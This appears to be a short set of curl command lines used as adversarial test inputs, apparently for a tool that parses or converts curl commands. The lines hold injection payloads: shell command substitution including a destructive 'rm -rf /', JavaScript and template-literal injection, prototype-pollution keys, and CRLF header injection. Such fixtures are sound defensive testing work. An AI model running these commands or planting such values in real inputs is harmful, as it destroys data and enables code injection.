curl "https://x.example/\`id\`/'; process.exit(1); '" -H "X-A: */ \${process.exit(2)}" -d $'a=\u2028\x00</script>&__proto__=1&constructor=2'
curl $(rm -rf /) https://x.example/`whoami`
curl 'https://x.example/b' -X 'GET; process.exit(3)' -H $'Evil\nName: x' -H $'X-B: a\r\nInjected: 1'
